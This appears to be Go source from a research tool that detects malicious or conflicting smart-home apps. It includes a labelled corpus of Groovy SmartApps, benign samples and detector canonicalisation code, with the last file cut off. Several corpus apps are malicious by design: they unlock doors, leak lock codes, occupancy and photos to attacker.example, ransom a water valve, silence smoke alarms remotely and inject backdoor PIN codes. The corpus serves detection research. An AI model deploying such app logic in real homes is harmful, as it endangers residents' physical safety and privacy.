	registerMalicious("shiqiBatteryMonitor", "Abusing Permission", true, `
definition(name: "shiqiBatteryMonitor", namespace: "mal", author: "attacker",
    description: "Monitors your sensor batteries and reports their health.",
    category: "Convenience")
input "battery1", "capability.battery", title: "Battery to monitor"
input "lock1", "capability.lock", title: "Door (for battery check)"
def installed() { subscribe(battery1, "battery", onBattery) }
def updated() { unsubscribe(); subscribe(battery1, "battery", onBattery) }
def onBattery(evt) {
    if (evt.integerValue < 20) {
        lock1.unlock()
    }
}
`)

	registerMalicious("HelloHome", "Adware", true, `
definition(name: "HelloHome", namespace: "mal", author: "attacker",
    description: "Friendly greetings when you come home.",
    category: "Convenience")
input "presence1", "capability.presenceSensor"
input "phone1", "phone"
def installed() { subscribe(presence1, "presence.present", onArrive) }
def updated() { unsubscribe(); subscribe(presence1, "presence.present", onArrive) }
def onArrive(evt) {
    sendSms(phone1, "Welcome home! -- Brought to you by BUY MEGACORP WIDGETS NOW")
}
`)

	registerMalicious("CODetector", "Adware", true, `
definition(name: "CODetector", namespace: "mal", author: "attacker",
    description: "Alerts you about carbon monoxide.",
    category: "Safety & Security")
input "co1", "capability.carbonMonoxideDetector"
input "phone1", "phone"
def installed() { subscribe(co1, "carbonMonoxide.detected", onCO) }
def updated() { unsubscribe(); subscribe(co1, "carbonMonoxide.detected", onCO) }
def onCO(evt) {
    sendSms(phone1, "CO detected! Also: 50% OFF at sketchy-ads.example")
}
`)

	registerMalicious("LockManager", "Spyware", true, `
definition(name: "LockManager", namespace: "mal", author: "attacker",
    description: "Manage your lock codes in one place.",
    category: "Safety & Security")
input "lock1", "capability.lock"
def installed() { subscribe(lock1, "codeReport", onCode) }
def updated() { unsubscribe(); subscribe(lock1, "codeReport", onCode) }
def onCode(evt) {
    httpPost("http://attacker.example/codes", "code=${evt.value}")
}
`)

	registerMalicious("shiqiLightController", "Spyware", true, `
definition(name: "shiqiLightController", namespace: "mal", author: "attacker",
    description: "A simple light controller with cloud backup.",
    category: "Convenience")
input "light1", "capability.switch"
input "motion1", "capability.motionSensor"
def installed() { subscribe(motion1, "motion", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion", onMotion) }
def onMotion(evt) {
    if (evt.value == "active") {
        light1.on()
    }
    httpGet("http://attacker.example/track?occupancy=${evt.value}")
}
`)

	registerMalicious("DoorLockPinCodeSnooping", "Spyware", true, `
definition(name: "DoorLockPinCodeSnooping", namespace: "mal", author: "attacker",
    description: "Helps you remember who unlocked the door.",
    category: "Safety & Security")
input "lock1", "capability.lock"
input "phone1", "phone"
def installed() { subscribe(lock1, "lock", onLock) }
def updated() { unsubscribe(); subscribe(lock1, "lock", onLock) }
def onLock(evt) {
    sendSms(phone1, "lock event ${evt.value}")
    httpPost("http://attacker.example/pins", "event=${evt.value}")
}
`)

	registerMalicious("MotionSpy", "Spyware", true, `
definition(name: "MotionSpy", namespace: "mal", author: "attacker",
    description: "Occupancy analytics to optimise your heating.",
    category: "Green Living")
input "motion1", "capability.motionSensor"
def installed() { subscribe(motion1, "motion", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion", onMotion) }
def onMotion(evt) {
    httpPost("http://attacker.example/occupancy", "state=${evt.value}")
}
`)

	registerMalicious("WaterValve", "Ransomware", true, `
definition(name: "WaterValve", namespace: "mal", author: "attacker",
    description: "Smart water valve manager.",
    category: "Safety & Security")
input "valve1", "capability.valve"
input "phone1", "phone"
def installed() { subscribe(app, appTouch) }
def updated() { unsubscribe(); subscribe(app, appTouch) }
def appTouch(evt) {
    if (state.paid != 1) {
        valve1.close()
        sendSms(phone1, "Your water is held hostage. Pay 1 BTC to restore.")
    } else {
        valve1.open()
    }
}
`)

	registerMalicious("SmokeDetector", "Remote Control", true, `
definition(name: "SmokeDetector", namespace: "mal", author: "attacker",
    description: "Enhanced smoke detector logic with cloud intelligence.",
    category: "Safety & Security")
input "smoke1", "capability.smokeDetector"
input "siren1", "capability.alarm"
def installed() { subscribe(smoke1, "smoke", onSmoke) }
def updated() { unsubscribe(); subscribe(smoke1, "smoke", onSmoke) }
def onSmoke(evt) {
    httpGet("http://attacker.example/cmd") { resp ->
        if (resp == "silence") {
            siren1.off()
        } else {
            siren1.both()
        }
    }
}
`)

	registerMalicious("FireAlarm", "Remote Control", true, `
definition(name: "FireAlarm", namespace: "mal", author: "attacker",
    description: "Cloud-connected fire alarm orchestration.",
    category: "Safety & Security")
input "smoke1", "capability.smokeDetector"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(smoke1, "smoke.detected", onFire) }
def updated() { unsubscribe(); subscribe(smoke1, "smoke.detected", onFire) }
def onFire(evt) {
    httpGet("http://attacker.example/fire") { resp ->
        if (resp == "proceed") {
            lights.on()
        }
    }
}
`)

	registerMalicious("MaliciousCameraIPC", "IPC", true, `
definition(name: "MaliciousCameraIPC", namespace: "mal", author: "attacker",
    description: "Smart camera power saver.",
    category: "Safety & Security")
input "camera1", "capability.videoCamera"
input "motion1", "capability.motionSensor"
def installed() { subscribe(motion1, "motion", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion", onMotion) }
def onMotion(evt) {
    if (evt.value == "inactive") {
        camera1.off()
        state.channel = "nobody-home"
    } else {
        camera1.on()
    }
}
`)

	registerMalicious("PresenceSensor", "IPC", true, `
definition(name: "PresenceSensor", namespace: "mal", author: "attacker",
    description: "Presence summary for your family.",
    category: "Family")
input "presence1", "capability.presenceSensor"
def installed() { subscribe(presence1, "presence", onPresence) }
def updated() { unsubscribe(); subscribe(presence1, "presence", onPresence) }
def onPresence(evt) {
    if (evt.value == "not present") {
        httpPost("http://attacker.example/ipc", "signal=${state.channel}")
    }
}
`)

	registerMalicious("AutoCamera2", "Shadow Payload", true, `
definition(name: "AutoCamera2", namespace: "mal", author: "attacker",
    description: "Automatically snap a photo when the door opens.",
    category: "Safety & Security")
input "door1", "capability.contactSensor"
input "camera1", "capability.imageCapture"
def installed() { subscribe(door1, "contact.open", onOpen) }
def updated() { unsubscribe(); subscribe(door1, "contact.open", onOpen) }
def onOpen(evt) {
    camera1.take()
    httpPostJson("https://attacker.example/upload?k=3c5f", "photo")
}
`)

	registerMalicious("BackdoorPinCodeInjection", "Endpoint Attack", false, `
definition(name: "BackdoorPinCodeInjection", namespace: "mal", author: "attacker",
    description: "Web dashboard for your door locks.",
    category: "SmartThings Labs")
input "lock1", "capability.lock"
mappings {
    path("/inject") { action: [POST: "injectCode"] }
}
def installed() { }
def updated() { }
def injectCode() {
    lock1.setCode(9, "0000")
}
`)

	registerMalicious("DisablingVacationMode", "Endpoint Attack", false, `
definition(name: "DisablingVacationMode", namespace: "mal", author: "attacker",
    description: "Vacation mode helper with remote access.",
    category: "SmartThings Labs")
mappings {
    path("/disable") { action: [POST: "disableVacation"] }
}
def installed() { }
def updated() { }
def disableVacation() {
    setLocationMode("Home")
}
`)

	registerMalicious("BonVoyageRepackaging", "App Update", false, `
definition(name: "BonVoyageRepackaging", namespace: "mal", author: "attacker",
    description: "Set the home to Away mode when everyone has left.",
    category: "Mode Magic")
input "everyone", "capability.presenceSensor", multiple: true
def installed() { subscribe(everyone, "presence.not present", onLeave) }
def updated() { unsubscribe(); subscribe(everyone, "presence.not present", onLeave) }
def onLeave(evt) {
    setLocationMode("Away")
}
`)

	registerMalicious("PowersOutAlert", "App Update", false, `
definition(name: "PowersOutAlert", namespace: "mal", author: "attacker",
    description: "Alerts you when the power goes out.",
    category: "Safety & Security")
input "power1", "capability.powerMeter"
input "phone1", "phone"
def installed() { subscribe(power1, "power", onPower) }
def updated() { unsubscribe(); subscribe(power1, "power", onPower) }
def onPower(evt) {
    if (evt.doubleValue < 5) {
        sendSms(phone1, "Power appears to be out")
    }
}
`)
}
