package corpus

// Notification-only apps (representing the 56 the paper excludes from
// pairwise detection because they only message the owner) and web-service
// apps (representing the 36 removed before rule extraction because their
// automation lives behind web endpoints).

func init() {
	registerAll(Notification, map[string]string{
		"NotifyWhenDoorOpens": `
definition(name: "NotifyWhenDoorOpens", namespace: "store", author: "community",
    description: "Text me whenever the front door opens.", category: "Safety & Security")
input "door1", "capability.contactSensor"
input "phone1", "phone"
def installed() { subscribe(door1, "contact.open", onOpen) }
def updated() { unsubscribe(); subscribe(door1, "contact.open", onOpen) }
def onOpen(evt) {
    sendSms(phone1, "The front door just opened")
}
`,
		"TextMeWhenMotion": `
definition(name: "TextMeWhenMotion", namespace: "store", author: "community",
    description: "Send a text when motion is detected while I'm away.", category: "Safety & Security")
input "motion1", "capability.motionSensor"
input "phone1", "phone"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    if (location.mode == "Away") {
        sendSms(phone1, "Motion while away!")
    }
}
`,
		"LowBatteryAlert": `
definition(name: "LowBatteryAlert", namespace: "store", author: "community",
    description: "Push a notification when any sensor battery runs low.", category: "Convenience")
input "batteries", "capability.battery", multiple: true
def installed() { subscribe(batteries, "battery", onBattery) }
def updated() { unsubscribe(); subscribe(batteries, "battery", onBattery) }
def onBattery(evt) {
    if (evt.integerValue < 15) {
        sendPush("A battery is low")
    }
}
`,
		"TemperatureAlert": `
definition(name: "TemperatureAlert", namespace: "store", author: "community",
    description: "Warn me when the wine cellar gets too warm.", category: "Convenience")
input "tSensor", "capability.temperatureMeasurement", title: "Cellar sensor"
input "phone1", "phone"
input "maxT", "number", defaultValue: 60
def installed() { subscribe(tSensor, "temperature", onTemp) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", onTemp) }
def onTemp(evt) {
    if (evt.doubleValue > maxT) {
        sendSms(phone1, "Cellar is too warm")
    }
}
`,
		"SmokeTextAlert": `
definition(name: "SmokeTextAlert", namespace: "store", author: "community",
    description: "Text the whole family when smoke is detected.", category: "Safety & Security")
input "smoke1", "capability.smokeDetector"
input "phone1", "phone"
def installed() { subscribe(smoke1, "smoke.detected", onSmoke) }
def updated() { unsubscribe(); subscribe(smoke1, "smoke.detected", onSmoke) }
def onSmoke(evt) {
    sendSms(phone1, "SMOKE DETECTED")
}
`,
		"WaterLeakText": `
definition(name: "WaterLeakText", namespace: "store", author: "community",
    description: "Text me the moment any leak sensor gets wet.", category: "Safety & Security")
input "leaks", "capability.waterSensor", multiple: true
input "phone1", "phone"
def installed() { subscribe(leaks, "water.wet", onLeak) }
def updated() { unsubscribe(); subscribe(leaks, "water.wet", onLeak) }
def onLeak(evt) {
    sendSms(phone1, "Water leak detected")
}
`,
		"PresenceText": `
definition(name: "PresenceText", namespace: "store", author: "community",
    description: "Tell me when the kids arrive home from school.", category: "Family")
input "kidTag", "capability.presenceSensor"
input "phone1", "phone"
def installed() { subscribe(kidTag, "presence.present", onArrive) }
def updated() { unsubscribe(); subscribe(kidTag, "presence.present", onArrive) }
def onArrive(evt) {
    sendSms(phone1, "The kids are home")
}
`,
		"ModeChangeText": `
definition(name: "ModeChangeText", namespace: "store", author: "community",
    description: "Notify me whenever the home mode changes.", category: "Convenience")
input "phone1", "phone"
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    sendSms(phone1, "Home mode is now ${evt.value}")
}
`,
		"EnergyReport": `
definition(name: "EnergyReport", namespace: "store", author: "community",
    description: "Push a daily summary of home energy consumption.", category: "Green Living")
input "energy1", "capability.energyMeter"
def installed() { schedule("0 0 21 * * ?", report) }
def updated() { unschedule(); schedule("0 0 21 * * ?", report) }
def report() {
    def e = energy1.currentValue("energy")
    sendPush("Today's energy: ${e}")
}
`,
		"DoorLeftOpenText": `
definition(name: "DoorLeftOpenText", namespace: "store", author: "community",
    description: "Text me if the garage-side door stays open for five minutes.", category: "Safety & Security")
input "door1", "capability.contactSensor"
input "phone1", "phone"
def installed() { subscribe(door1, "contact.open", onOpen) }
def updated() { unsubscribe(); subscribe(door1, "contact.open", onOpen) }
def onOpen(evt) {
    runIn(300, checkDoor)
}
def checkDoor() {
    if (door1.currentContact == "open") {
        sendSms(phone1, "Door left open")
    }
}
`,
		"FreezeWarning": `
definition(name: "FreezeWarning", namespace: "store", author: "community",
    description: "Warn me before the pipes can freeze.", category: "Safety & Security")
input "tSensor", "capability.temperatureMeasurement"
input "phone1", "phone"
def installed() { subscribe(tSensor, "temperature", onTemp) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", onTemp) }
def onTemp(evt) {
    if (evt.doubleValue < 35) {
        sendSms(phone1, "Freeze warning")
    }
}
`,
		"SoundAlert": `
definition(name: "SoundAlert", namespace: "store", author: "community",
    description: "Push a notification when loud sound is heard while nobody is home.", category: "Safety & Security")
input "sound1", "capability.soundSensor"
def installed() { subscribe(sound1, "sound.detected", onSound) }
def updated() { unsubscribe(); subscribe(sound1, "sound.detected", onSound) }
def onSound(evt) {
    if (location.mode == "Away") {
        sendPush("Loud sound detected at home")
    }
}
`,
	})

	registerAll(WebService, map[string]string{
		"WebSwitches": `
definition(name: "WebSwitches", namespace: "store", author: "community",
    description: "Expose your switches to external services over a web API.", category: "SmartThings Labs")
input "switches", "capability.switch", multiple: true
mappings {
    path("/switches") { action: [GET: "listSwitches", PUT: "updateSwitches"] }
}
def installed() { }
def updated() { }
def listSwitches() {
    switches.each { s -> s.currentSwitch }
}
def updateSwitches() {
    switches.on()
}
`,
		"WebDashboard": `
definition(name: "WebDashboard", namespace: "store", author: "community",
    description: "A read-only web dashboard for home sensors.", category: "SmartThings Labs")
input "sensors", "capability.temperatureMeasurement", multiple: true
mappings {
    path("/readings") { action: [GET: "readings"] }
}
def installed() { }
def updated() { }
def readings() {
    sensors.collect { s -> s.currentTemperature }
}
`,
		"WebLockControl": `
definition(name: "WebLockControl", namespace: "store", author: "community",
    description: "Lock or unlock doors from an external web application.", category: "SmartThings Labs")
input "locks", "capability.lock", multiple: true
mappings {
    path("/lock") { action: [POST: "doLock"] }
    path("/unlock") { action: [POST: "doUnlock"] }
}
def installed() { }
def updated() { }
def doLock() { locks.lock() }
def doUnlock() { locks.unlock() }
`,
		"WebModeSetter": `
definition(name: "WebModeSetter", namespace: "store", author: "community",
    description: "Set the home mode from external web calls.", category: "SmartThings Labs")
mappings {
    path("/mode") { action: [POST: "setMode"] }
}
def installed() { }
def updated() { }
def setMode() {
    setLocationMode("Away")
}
`,
	})
}
