package detect

import (
	"strings"

	"homeguard/internal/capability"
	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
	"homeguard/internal/solver"
	"homeguard/internal/symexec"
)

// deviceKey returns the canonical identity of the device bound to an
// app input: the configured 128-bit device ID when known, else a
// type-level key ("type:<deviceType>#<mainAttr>") implementing the
// Sec. VIII-B setting where two rules use "the same device" when their
// devices share a type.
func (d *Detector) deviceKey(app *InstalledApp, input string) string {
	if id, ok := app.Config.Devices[input]; ok && id != "" {
		return id
	}
	in := app.Info.Input(input)
	if in == nil {
		return "type:" + input
	}
	dt := d.deviceType(app, in)
	// Use the capability's main attribute to separate e.g. locks from
	// switches even when both are Generic-typed.
	attr := ""
	if c, ok := capability.Get(in.Capability); ok {
		attr = c.MainAttribute()
	}
	return "type:" + string(dt) + "#" + attr
}

// deviceType resolves the physical device type of an input: pinned by
// capability, else configured (NLP-classified), else guessed from the
// input name/title, else Generic.
func (d *Detector) deviceType(app *InstalledApp, in *symexec.InputDecl) envmodel.DeviceType {
	if dt, pinned := envmodel.TypeForCapability(in.Capability); pinned {
		return dt
	}
	if dt, ok := app.Config.DeviceTypes[in.Name]; ok {
		return dt
	}
	if dt := envmodel.GuessTypeFromName(in.Name + " " + in.Title); dt != envmodel.Generic {
		return dt
	}
	return envmodel.Generic
}

// canonVar rewrites an app-local variable name into home-global canonical
// form:
//   - device attribute "tv1.switch"  → "<deviceKey>.switch"
//   - "location.mode", "env.*"       → unchanged (already global)
//   - "state.x"                      → "<app>!state.x" (app-private)
//   - bare input name                → "<app>!<input>" (substituted by
//     config values where available)
//
// Renamed variables are interned through the same table the symbolic
// executor uses for "<subject>.<attribute>" names (rule.InternDotted /
// InternBanged): canonicalization re-derives the same home-global names at
// every Install/Reconfigure compile, so repeat compiles of a hot catalog
// app reuse one shared backing string instead of re-concatenating.
func (d *Detector) canonVar(app *InstalledApp, v rule.Var) rule.Var {
	name := v.Name
	if strings.HasPrefix(name, "env.") || strings.HasPrefix(name, "location.") {
		return v
	}
	if strings.HasPrefix(name, "state.") {
		v.Name = rule.InternBanged(app.Info.Name, name)
		return v
	}
	if dot := strings.IndexByte(name, '.'); dot >= 0 {
		ref := name[:dot]
		rest := name[dot+1:]
		if in := app.Info.Input(ref); in != nil && in.IsDevice() {
			v.Name = rule.InternDotted(d.deviceKey(app, ref), rest)
			return v
		}
		v.Name = rule.InternBanged(app.Info.Name, name)
		return v
	}
	// Bare input or local name.
	v.Name = rule.InternBanged(app.Info.Name, name)
	return v
}

// configBindings returns substitutions for configured value inputs.
func (d *Detector) configBindings(app *InstalledApp) map[string]rule.Term {
	bind := map[string]rule.Term{}
	for name, t := range app.Config.Values {
		bind[app.Info.Name+"!"+name] = t
	}
	return bind
}

// canonFormulaBind canonicalises a constraint against precomputed config
// bindings: rename variables, then apply configured value substitutions.
// Canonicalization runs once per rule at compile time (see compile.go);
// pair checks consume the compiled formulas.
func (d *Detector) canonFormulaBind(app *InstalledApp, c rule.Constraint, bind map[string]rule.Term) rule.Constraint {
	if c == nil {
		return nil
	}
	renamed := rule.RenameVars(c, func(v rule.Var) rule.Var { return d.canonVar(app, v) })
	return rule.Substitute(renamed, bind)
}

// canonTermBind canonicalises a term (action parameter) against
// precomputed config bindings.
func (d *Detector) canonTermBind(app *InstalledApp, t rule.Term, bind map[string]rule.Term) rule.Term {
	switch x := t.(type) {
	case rule.Var:
		cv := d.canonVar(app, x)
		if b, ok := bind[cv.Name]; ok {
			return b
		}
		return cv
	case rule.Sum:
		cv := d.canonVar(app, x.X)
		if b, ok := bind[cv.Name]; ok {
			if iv, ok := b.(rule.IntVal); ok {
				return rule.IntVal(int64(iv) + x.K)
			}
		}
		return rule.Sum{X: cv, K: x.K}
	}
	return t
}

// ---------- solver problem construction ----------

// declareVars declares solver domains for every variable in the formulas:
// device attributes get their capability-declared domains; location.mode
// gets the home's mode universe; env features get physical ranges; other
// enum-ish variables get the set of string values observed anywhere in the
// formulas. This is the walk-everything path used for ad-hoc formula sets
// (effect merges, setpoint bounds); the hot pair queries declare from
// precompiled plans instead (declareGroups in compile.go).
func (d *Detector) declareVars(p *solver.Problem, formulas ...rule.Constraint) {
	for _, dec := range compileDecls(rule.Conj(formulas...)) {
		d.declareVar(p, dec.name, dec.v, dec.observed)
	}
}

func addObserved(m map[string]map[string]bool, varName, val string) {
	if m[varName] == nil {
		m[varName] = map[string]bool{}
	}
	m[varName][val] = true
}

func (d *Detector) declareVar(p *solver.Problem, name string, v rule.Var, observed []string) {
	if p.HasVar(name) {
		return
	}
	// Enum inputs declared with options get their declared domain.
	if opts, ok := d.inputOptions[name]; ok {
		p.AddEnumVar(name, extendVals(opts, observed))
		return
	}
	if name == "location.mode" {
		p.AddEnumVar(name, extendVals(d.modes, observed))
		return
	}
	if strings.HasPrefix(name, "env.") {
		lo, hi := envRange(strings.TrimPrefix(name, "env."))
		p.AddIntVar(name, lo, hi)
		return
	}
	// Device attribute: the suffix after the last '.' is the attribute.
	attr := name
	if dot := strings.LastIndexByte(name, '.'); dot >= 0 {
		attr = name[dot+1:]
	}
	if a := capability.AttrByName(attr); a != nil {
		switch a.Kind {
		case capability.Enum:
			p.AddEnumVar(name, extendVals(a.Values, observed))
			return
		case capability.Number:
			p.AddIntVar(name, a.Min, a.Max)
			return
		}
	}
	// Fallback: enum over observed strings, or a default int.
	if len(observed) > 0 || v.Type == rule.TypeString {
		vals := make([]string, 0, len(observed)+1)
		vals = append(vals, observed...)
		vals = append(vals, "\x00other")
		p.AddEnumVar(name, vals)
		return
	}
	if v.Type == rule.TypeBool {
		p.AddBoolVar(name)
		return
	}
	p.AddIntVar(name, solver.DefaultIntMin, solver.DefaultIntMax)
}

// extendVals appends the observed values missing from base, copying only
// when an extension is needed (AddEnumVar copies its argument anyway, so
// the unextended common case passes base through without an extra copy).
func extendVals(base, observed []string) []string {
	vals := base
	extended := false
	for _, o := range observed {
		if containsStr(vals, o) {
			continue
		}
		if !extended {
			vals = append(append(make([]string, 0, len(base)+len(observed)), base...), o)
			extended = true
			continue
		}
		vals = append(vals, o)
	}
	return vals
}

func containsStr(xs []string, s string) bool {
	for _, x := range xs {
		if x == s {
			return true
		}
	}
	return false
}

// envRange gives physical bounds for environment features.
func envRange(feature string) (int64, int64) {
	switch feature {
	case "temperature":
		return -40, 150
	case "illuminance":
		return 0, 100000
	case "humidity":
		return 0, 100
	case "power":
		return 0, 100000
	case "timeOfDay":
		return 0, 1439
	case "sunrise", "sunset":
		return 0, 1439
	case "now":
		return 0, 1 << 40
	}
	return solver.DefaultIntMin, solver.DefaultIntMax
}

// ---------- action effects ----------

// deviceEffect is one attribute change produced by an action, in canonical
// variables.
type deviceEffect struct {
	varName string    // canonical "<deviceKey>.<attr>"
	value   rule.Term // new value (constant or parameter term)
	attr    string
}

// actionEffectsBind computes the device-state effects of a rule's action
// against precomputed config bindings (compile-time; pair checks read
// compiledRule.effects).
func (d *Detector) actionEffectsBind(app *InstalledApp, r *rule.Rule, bind map[string]rule.Term) []deviceEffect {
	act := r.Action
	if act.Command == "setLocationMode" {
		var v rule.Term = rule.StrVal("?")
		if len(act.Params) > 0 {
			v = d.canonTermBind(app, act.Params[0], bind)
		}
		return []deviceEffect{{varName: "location.mode", value: v, attr: "mode"}}
	}
	in := app.Info.Input(act.Subject)
	if in == nil || !in.IsDevice() {
		return nil
	}
	ref := commandRef(act.Capability, act.Command)
	if ref == nil {
		return nil
	}
	key := d.deviceKey(app, act.Subject)
	var out []deviceEffect
	for _, e := range ref.Command.Effects {
		de := deviceEffect{varName: key + "." + e.Attribute, attr: e.Attribute}
		if e.FromParam >= 0 && e.FromParam < len(act.Params) {
			de.value = d.canonTermBind(app, act.Params[e.FromParam], bind)
		} else if e.FromParam < 0 {
			de.value = rule.StrVal(e.Value)
			if a := ref.Capability.Attr(e.Attribute); a != nil && a.Kind == capability.Number {
				de.value = rule.StrVal(e.Value) // numeric constant effects unused in registry
			}
		} else {
			continue
		}
		out = append(out, de)
	}
	return out
}

func commandRef(capName, cmd string) *capability.CommandRef {
	if c, ok := capability.Get(capName); ok {
		if k := c.Cmd(cmd); k != nil {
			return &capability.CommandRef{Capability: c, Command: k}
		}
	}
	refs := capability.CommandsNamed(cmd)
	if len(refs) > 0 {
		return &refs[0]
	}
	return nil
}

// envEffects computes the environment effects of a rule's action based on
// the device's physical type.
func (d *Detector) envEffects(app *InstalledApp, r *rule.Rule) envmodel.Effects {
	in := app.Info.Input(r.Action.Subject)
	if in == nil || !in.IsDevice() {
		return nil
	}
	dt := d.deviceType(app, in)
	return envmodel.EffectsOf(dt, r.Action.Command)
}

// effectConstraint renders a device effect as an equality formula.
func (e deviceEffect) constraint() rule.Constraint {
	v := rule.Var{Name: e.varName, Kind: rule.VarDeviceAttr, Type: rule.TypeString}
	if _, isInt := e.value.(rule.IntVal); isInt {
		v.Type = rule.TypeInt
	}
	if vv, isVar := e.value.(rule.Var); isVar {
		v.Type = vv.Type
	}
	return rule.Cmp{Op: rule.OpEq, L: v, R: e.value}
}
