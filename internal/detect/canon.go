package detect

import (
	"strings"

	"homeguard/internal/capability"
	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
	"homeguard/internal/solver"
	"homeguard/internal/symexec"
)

// deviceKey returns the canonical identity of the device bound to an
// app input: the configured 128-bit device ID when known, else a
// type-level key ("type:<deviceType>#<mainAttr>") implementing the
// Sec. VIII-B setting where two rules use "the same device" when their
// devices share a type.
func (d *Detector) deviceKey(app *InstalledApp, input string) string {
	if id, ok := app.Config.Devices[input]; ok && id != "" {
		return id
	}
	in := app.Info.Input(input)
	if in == nil {
		return "type:" + input
	}
	dt := d.deviceType(app, in)
	// Use the capability's main attribute to separate e.g. locks from
	// switches even when both are Generic-typed.
	attr := ""
	if c, ok := capability.Get(in.Capability); ok {
		attr = c.MainAttribute()
	}
	return "type:" + string(dt) + "#" + attr
}

// deviceType resolves the physical device type of an input: pinned by
// capability, else configured (NLP-classified), else guessed from the
// input name/title, else Generic.
func (d *Detector) deviceType(app *InstalledApp, in *symexec.InputDecl) envmodel.DeviceType {
	if dt, pinned := envmodel.TypeForCapability(in.Capability); pinned {
		return dt
	}
	if dt, ok := app.Config.DeviceTypes[in.Name]; ok {
		return dt
	}
	if dt := envmodel.GuessTypeFromName(in.Name + " " + in.Title); dt != envmodel.Generic {
		return dt
	}
	return envmodel.Generic
}

// canonVar rewrites an app-local variable name into home-global canonical
// form:
//   - device attribute "tv1.switch"  → "<deviceKey>.switch"
//   - "location.mode", "env.*"       → unchanged (already global)
//   - "state.x"                      → "<app>!state.x" (app-private)
//   - bare input name                → "<app>!<input>" (substituted by
//     config values where available)
func (d *Detector) canonVar(app *InstalledApp, v rule.Var) rule.Var {
	name := v.Name
	if strings.HasPrefix(name, "env.") || strings.HasPrefix(name, "location.") {
		return v
	}
	if strings.HasPrefix(name, "state.") {
		v.Name = app.Info.Name + "!" + name
		return v
	}
	if dot := strings.IndexByte(name, '.'); dot >= 0 {
		ref := name[:dot]
		rest := name[dot:]
		if in := app.Info.Input(ref); in != nil && in.IsDevice() {
			v.Name = d.deviceKey(app, ref) + rest
			return v
		}
		v.Name = app.Info.Name + "!" + name
		return v
	}
	// Bare input or local name.
	v.Name = app.Info.Name + "!" + name
	return v
}

// configBindings returns substitutions for configured value inputs.
func (d *Detector) configBindings(app *InstalledApp) map[string]rule.Term {
	bind := map[string]rule.Term{}
	for name, t := range app.Config.Values {
		bind[app.Info.Name+"!"+name] = t
	}
	return bind
}

// canonFormula canonicalises a constraint: rename variables, then apply
// configured value substitutions.
func (d *Detector) canonFormula(app *InstalledApp, c rule.Constraint) rule.Constraint {
	if c == nil {
		return nil
	}
	renamed := rule.RenameVars(c, func(v rule.Var) rule.Var { return d.canonVar(app, v) })
	return rule.Substitute(renamed, d.configBindings(app))
}

// situationFormula is trigger-constraint ∧ condition for a rule, in
// canonical variables.
func (d *Detector) situationFormula(app *InstalledApp, r *rule.Rule) rule.Constraint {
	return d.canonFormula(app, r.TriggerConditionFormula())
}

// conditionFormula is the rule's condition only, canonicalised.
func (d *Detector) conditionFormula(app *InstalledApp, r *rule.Rule) rule.Constraint {
	return d.canonFormula(app, r.Condition.Formula())
}

// canonTerm canonicalises a term (action parameter).
func (d *Detector) canonTerm(app *InstalledApp, t rule.Term) rule.Term {
	switch x := t.(type) {
	case rule.Var:
		cv := d.canonVar(app, x)
		if b, ok := d.configBindings(app)[cv.Name]; ok {
			return b
		}
		return cv
	case rule.Sum:
		cv := d.canonVar(app, x.X)
		if b, ok := d.configBindings(app)[cv.Name]; ok {
			if iv, ok := b.(rule.IntVal); ok {
				return rule.IntVal(int64(iv) + x.K)
			}
		}
		return rule.Sum{X: cv, K: x.K}
	}
	return t
}

// ---------- solver problem construction ----------

// declareVars declares solver domains for every variable in the formulas:
// device attributes get their capability-declared domains; location.mode
// gets the home's mode universe; env features get physical ranges; other
// enum-ish variables get the set of string values observed anywhere in the
// formulas.
func (d *Detector) declareVars(p *solver.Problem, formulas ...rule.Constraint) {
	observed := map[string]map[string]bool{} // var -> string values compared against
	var collect func(c rule.Constraint)
	collect = func(c rule.Constraint) {
		switch x := c.(type) {
		case rule.Cmp:
			if v, ok := x.L.(rule.Var); ok {
				if s, ok := x.R.(rule.StrVal); ok {
					addObserved(observed, v.Name, string(s))
				}
			}
			if v, ok := x.R.(rule.Var); ok {
				if s, ok := x.L.(rule.StrVal); ok {
					addObserved(observed, v.Name, string(s))
				}
			}
		case rule.And:
			for _, sub := range x.Cs {
				collect(sub)
			}
		case rule.Or:
			for _, sub := range x.Cs {
				collect(sub)
			}
		case rule.Not:
			collect(x.C)
		}
	}
	vars := map[string]rule.Var{}
	for _, f := range formulas {
		if f == nil {
			continue
		}
		collect(f)
		for name, v := range rule.VarSet(f) {
			vars[name] = v
		}
	}
	for name, v := range vars {
		d.declareVar(p, name, v, observed[name])
	}
}

func addObserved(m map[string]map[string]bool, varName, val string) {
	if m[varName] == nil {
		m[varName] = map[string]bool{}
	}
	m[varName][val] = true
}

func (d *Detector) declareVar(p *solver.Problem, name string, v rule.Var, observed map[string]bool) {
	if p.HasVar(name) {
		return
	}
	// Enum inputs declared with options get their declared domain.
	if opts, ok := d.inputOptions[name]; ok {
		vals := append([]string(nil), opts...)
		for o := range observed {
			if !containsStr(vals, o) {
				vals = append(vals, o)
			}
		}
		p.AddEnumVar(name, vals)
		return
	}
	if name == "location.mode" {
		vals := append([]string(nil), d.modes...)
		for o := range observed {
			if !containsStr(vals, o) {
				vals = append(vals, o)
			}
		}
		p.AddEnumVar(name, vals)
		return
	}
	if strings.HasPrefix(name, "env.") {
		lo, hi := envRange(strings.TrimPrefix(name, "env."))
		p.AddIntVar(name, lo, hi)
		return
	}
	// Device attribute: the suffix after the last '.' is the attribute.
	attr := name
	if dot := strings.LastIndexByte(name, '.'); dot >= 0 {
		attr = name[dot+1:]
	}
	if a := capability.AttrByName(attr); a != nil {
		switch a.Kind {
		case capability.Enum:
			vals := append([]string(nil), a.Values...)
			for o := range observed {
				if !containsStr(vals, o) {
					vals = append(vals, o)
				}
			}
			p.AddEnumVar(name, vals)
			return
		case capability.Number:
			p.AddIntVar(name, a.Min, a.Max)
			return
		}
	}
	// Fallback: enum over observed strings, or a default int.
	if len(observed) > 0 || v.Type == rule.TypeString {
		var vals []string
		for o := range observed {
			vals = append(vals, o)
		}
		vals = append(vals, "\x00other")
